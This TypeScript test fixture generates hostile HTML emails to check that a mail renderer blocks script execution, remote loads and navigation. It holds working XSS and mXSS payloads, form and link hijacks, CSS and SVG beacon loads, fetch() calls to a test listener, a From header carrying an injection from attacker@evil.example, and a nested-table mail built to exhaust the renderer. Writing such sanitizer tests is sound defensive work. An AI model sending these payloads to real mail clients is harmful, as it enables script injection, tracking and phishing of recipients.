/** A mail that wants to run, load or lead somewhere. Every address in it is its own: `<base>/<name>/…`. */
export interface HostileMail {
  /** Also the subject. */
  name: string
  /** As a careless reader shows it: `cid:` addresses lead to the parts as they are. */
  careless: string
  message: Buffer
}

const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='
const HACK = `try{top.hacked=1}catch(e){};alert(1)`

/** What mails try, by what they try. `at` gives an address that must never be heard. */
const VECTORS: Record<string, (at: (what: string) => string) => string> = {
  scripts: (at) => `
    <script src="${at('src.js')}"></script><script>${HACK};fetch('${at('fetch')}')</script>
    <script type="module">import '${at('module.js')}'</script>
    <img src="x:" onerror="${HACK};new Image().src='${at('onerror')}'"><body onload="fetch('${at('onload')}')">
    <svg onload="fetch('${at('svg-onload')}')"></svg><details open ontoggle="fetch('${at('toggle')}')">x</details>
    <input autofocus onfocus="fetch('${at('focus')}')"><iframe src="javascript:fetch('${at('js-frame')}')"></iframe>
    <noscript><p title="</noscript><img src=x: onerror=fetch('${at('noscript')}')>"></p></noscript>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${at('mxss')}&gt;">`,
  forms: (at) => `
    <form action="${at('action')}" method="get" target="_top"><button style="width:400px;height:200px">Pay</button>
    <input name=q value=1><input type=image src="${at('image')}"></form>
    <form id=f action="${at('auto')}"></form><button form=f formaction="${at('formaction')}">x</button>
    <script>document.forms[0].submit()</script>`,
  refresh: (at) => `
    <head><meta http-equiv="refresh" content="0; url=${at('refresh')}"><base href="${at('base/')}">
    <meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${at('report')}"></head>
    <META HTTP-EQUIV=Refresh CONTENT="0;URL='${at('refresh-2')}'"><img src="relative.png">`,
  css: (at) => `
    <link rel=stylesheet href="${at('link.css')}"><style>@import "${at('import.css')}";@import url(${at('import-2.css')});
    @font-face{font-family:a;src:url(${at('font.woff')})} *{font-family:a}
    body{background:url("${at('body.png')}")} p{background:\\75rl(${at('escaped.png')})}
    p::before{content:url(${at('content.png')})} ul{list-style:url(${at('list.png')})}
    b{cursor:url(${at('cursor.png')}),auto;background:image-set("${at('set.png')}" 1x)}</style>
    <p style="background:url(${at('inline.png')})">x</p><ul><li>y</ul><b>z</b>
    <style>p{content:"</style><img src=${at('break-out.png')}>"}</style>`,
  svg: (at) => `
    <svg width=9 height=9><image href="${at('image.png')}"/><use href="${at('use.svg')}#a"/>
    <foreignObject><img src="${at('foreign.png')}"></foreignObject><style>@import "${at('style.css')}";</style>
    <filter id=f><feImage href="${at('fe.png')}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>
    <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${at('nested.png')}'/%3E%3C/svg%3E">
    <object data="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='fetch(&quot;${at('object')}&quot;)'/%3E"></object>`,
  loads: (at) => `
    <img src="${at('img.png')}"><img srcset="${at('srcset.png')} 1x"><picture><source srcset="${at('picture.png')}"><img></picture>
    <table background="${at('table.png')}"><tr><td background="${at('td.png')}">x</table>
    <iframe src="${at('iframe')}"></iframe><iframe srcdoc="<img src='${at('srcdoc.png')}'>"></iframe>
    <object data="${at('object')}"></object><embed src="${at('embed')}"><video poster="${at('poster.png')}" src="${at('video')}"></video>
    <audio src="${at('audio')}" autoplay></audio><link rel=preload as=image href="${at('preload')}">
    <link rel=prefetch href="${at('prefetch')}"><link rel=preconnect href="${at('')}"><link rel=icon href="${at('icon')}">`,
  links: (at) => `
    <a href="${at('top')}" target=_top ping="${at('ping')}" style="display:block;width:400px;height:200px;background:#eee">Your bank</a>
    <a href="${at('blank')}" target=_blank>b</a><a href="javascript:fetch('${at('js')}')">c</a>
    <map name=m><area shape=rect coords="0,0,400,400" href="${at('area')}"></map><a href="${at('save')}" download>d</a>`,
  cid: (at) => `
    <iframe src="cid:page@x"></iframe><object data="cid:page@x"></object><embed src="cid:drawing@x"><img src="cid:drawing@x">
    <img src="cid:page@x"><img src="cid:pixel@x"><link rel=stylesheet href="cid:sheet@x">
    <style>@import "cid:sheet@x";p{background:url(cid:drawing@x)}</style><p>x</p>
    <img src="cid:x&quot; onerror=&quot;fetch('${at('cid-quote')}')"><img src="cid:${at('cid-url.png')}">`,
}

interface Part {
  id: string
  type: string
  content: Buffer
}

/** Parts that `cid:` addresses lead to: a page, a drawing and a style sheet that load more. */
function related(at: (what: string) => string): Part[] {
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${at('drawing')}')"><image href="${at('drawing.png')}"/></svg>`
  return [
    {
      id: 'page@x',
      type: 'text/html',
      content: Buffer.from(`<script>${HACK}</script><img src="${at('page.png')}">`),
    },
    { id: 'drawing@x', type: 'image/svg+xml', content: Buffer.from(drawing) },
    { id: 'sheet@x', type: 'text/css', content: Buffer.from(`@import "${at('sheet.css')}"`) },
    { id: 'pixel@x', type: 'image/png', content: Buffer.from(PIXEL, 'base64') },
  ]
}

/** One mail for each thing that mails try. @param base where the listener is */
export function hostileMails(base: string): HostileMail[] {
  return Object.entries(VECTORS).map(([name, write]) => {
    const at = (what: string): string => `${base}/${name}/${what}`
    const html = `<html>${write(at)}<p>end of ${name}</p></html>`
    const parts = name === 'cid' ? related(at) : []
    const careless = parts.reduce(
      (text, { id, type, content }) =>
        text.replaceAll(`cid:${id}`, `data:${type};base64,${content.toString('base64')}`),
      html,
    )
    return { name, careless, message: mail(name, html, parts) }
  })
}

/** A mail of 10 MB that is nothing but tables in tables. */
export function nestedTables(): Buffer {
  const html = `<p>before the tables</p>${'<table><tr><td>'.repeat(700_000)}innermost`
  return mail('nested tables', html, [])
}

function mail(subject: string, html: string, parts: Part[]): Buffer {
  const head = [
    `From: "<img src=x: onerror=alert(1)>" <attacker@evil.example>`,
    'To: anna@example.com',
    `Subject: hostile ${subject}`,
    'Date: Tue, 14 Mar 2023 09:30:00 +0000',
    `Message-ID: <${subject.replaceAll(' ', '-')}@evil.example>`,
    'MIME-Version: 1.0',
  ].join('\r\n')
  const body = `Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${html}\r\n`
  if (parts.length === 0) return Buffer.from(`${head}\r\n${body}`)
  const written = parts.map(
    ({ id, type, content }) =>
      `Content-Type: ${type}\r\nContent-ID: <${id}>\r\nContent-Transfer-Encoding: base64\r\n\r\n${content.toString('base64')}`,
  )
  const all = [body, ...written].map((part) => `--=b\r\n${part}\r\n`).join('')
  return Buffer.from(`${head}\r\nContent-Type: multipart/related; boundary="=b"\r\n\r\n${all}--=b--\r\n`)
}
